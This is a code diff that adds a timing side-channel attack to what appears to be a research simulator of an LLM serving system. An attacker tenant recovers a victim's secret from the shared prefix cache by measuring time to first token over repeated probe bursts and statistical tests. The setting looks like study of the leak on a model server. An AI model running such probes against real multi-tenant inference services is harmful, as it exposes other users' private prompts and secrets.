@@ -32,13 +32,25 @@ from __future__ import annotations
 import os
 import random
 import statistics
+import time
 from collections.abc import Callable, Sequence
 from dataclasses import dataclass, field
 
 from scipy.stats import mannwhitneyu
 
-from minikv.disagg.prefix_probe import ATTACKER, Oracle, Server, random_letters_prompt
+from minikv.disagg.prefix_probe import (
+    ATTACKER,
+    VICTIM,
+    Oracle,
+    ProbeOutcome,
+    Server,
+    random_letters_prompt,
+    recover_secret,
+    victim_prompt,
+    victim_saves,
+)
 from minikv.request import Request
+from minikv.response import Response
 from minikv.workload import SECRET_ALPHABET
 
 DIGITS = "0123456789"
@@ -55,6 +67,7 @@ class TimingLedger:
     warmups: int = 0  # one request per cycle with what the attacker already knows
     cycles: int = 0
     rounds: list[dict[str, list[float]]] = field(default_factory=list)  # per round: guess -> burst times (s)
+    last: Response | None = None  # the last probe's answer
 
     @property
     def requests(self) -> int:
@@ -67,15 +80,18 @@ def burst_prompts(prefix: str, burst: int) -> list[str]:
     return [prefix + tail for tail in TAILS[:burst]]
 
 
-def time_burst(server: Server, prompts: list[str], tenant: str = ATTACKER) -> float:
+def time_burst(server: Server, prompts: list[str], tenant: str = ATTACKER,
+               ledger: TimingLedger | None = None) -> float:
     """Send `prompts` at once (one output token each); the median of their times to first token."""
     ids = [server.submit(Request(p, tenant, max_tokens=1)) for p in prompts]
     answered = {r.request_id: r for r in server.run()}
-    times = [answered[i].ttft_s for i in ids]
-    if any(t is None for t in times):
-        bad = next(answered[i] for i in ids if answered[i].ttft_s is None)
-        raise RuntimeError(f"a probe was answered {bad.status}: {bad.error}")
-    return statistics.median(times)
+    answers = [answered[i] for i in ids]
+    bad = [r for r in answers if r.ttft_s is None]
+    if bad:
+        raise RuntimeError(f"a probe was answered {bad[0].status}: {bad[0].error}")
+    if ledger is not None:
+        ledger.last = answers[-1]
+    return statistics.median(r.ttft_s for r in answers)
 
 
 def flush_cache(server: Server, rng: random.Random, tokens: int, prompt_chars: int = 900, tenant: str = ATTACKER) -> int:
@@ -109,7 +125,7 @@ def fastest_if_significant(samples: Sequence[Sequence[float]], alpha: float) -> 
 
 
 def timing_oracle(server: Server, refresh: Callable[[], None], rng: random.Random, flush_tokens: int,
-                  burst: int = 64, min_cycles: int = 4, max_cycles: int = 12, alpha: float = 0.01,
+                  burst: int = 64, min_cycles: int = 4, max_cycles: int = 16, alpha: float = 0.01,
                   ledger: TimingLedger | None = None, tenant: str = ATTACKER) -> Oracle:
     """An `Oracle` (as `cached_tokens_oracle`) answered from times to first token alone.
 
@@ -131,7 +147,7 @@ def timing_oracle(server: Server, refresh: Callable[[], None], rng: random.Rando
             time_burst(server, [known + TAILS[0]], tenant)  # what she knows is cached for her too
             ledger.warmups += 1
             for g in rng.sample(range(len(stems)), len(stems)):
-                times[g].append(time_burst(server, burst_prompts(stems[g], burst), tenant))
+                times[g].append(time_burst(server, burst_prompts(stems[g], burst), tenant, ledger))
                 ledger.probes += burst
             ledger.cycles += 1
             if cycle + 1 >= min_cycles:
@@ -142,3 +158,20 @@ def timing_oracle(server: Server, refresh: Callable[[], None], rng: random.Rando
         return [g == best for g in range(len(stems))]
 
     return ask
+
+
+def timing_attack(server: Server, secret: str, page_size: int, flush_tokens: int, alphabet: str = SECRET_ALPHABET,
+                  rng: random.Random | None = None, **plan: float) -> ProbeOutcome:
+    """Alice saves `secret`, and her app sends the same prompt again at every cycle; mallory
+    recovers it from times to first token alone (`plan`: timing_oracle's burst, cycles, alpha)."""
+    victim = victim_saves(server, secret)
+    prompt = victim_prompt(secret)
+
+    def refresh() -> None:  # the victim's application sends its prompt again (our model: see above)
+        server.submit(Request(prompt, VICTIM, max_tokens=1))
+        server.run()
+
+    ledger, start = TimingLedger(), time.perf_counter()
+    oracle = timing_oracle(server, refresh, rng or random.Random(0), flush_tokens, ledger=ledger, **plan)
+    recovered, _ = recover_secret(oracle, page_size, alphabet=alphabet)
+    return ProbeOutcome(victim, ledger.last, recovered, ledger.requests, time.perf_counter() - start, ledger.cycles)
